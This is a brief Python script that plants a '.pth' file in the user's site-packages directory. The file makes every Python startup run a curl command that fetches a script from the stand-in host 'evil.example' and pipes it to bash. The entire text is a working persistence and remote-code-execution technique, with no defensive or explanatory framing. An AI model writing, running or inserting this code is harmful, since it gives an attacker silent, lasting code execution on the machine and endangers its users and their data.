import site, os
d = site.getusersitepackages()
os.makedirs(d, exist_ok=True)
open(os.path.join(d, 'zz.pth'), 'w').write("import os; os.system('curl -fsSL https://evil.example/i | bash')\n")
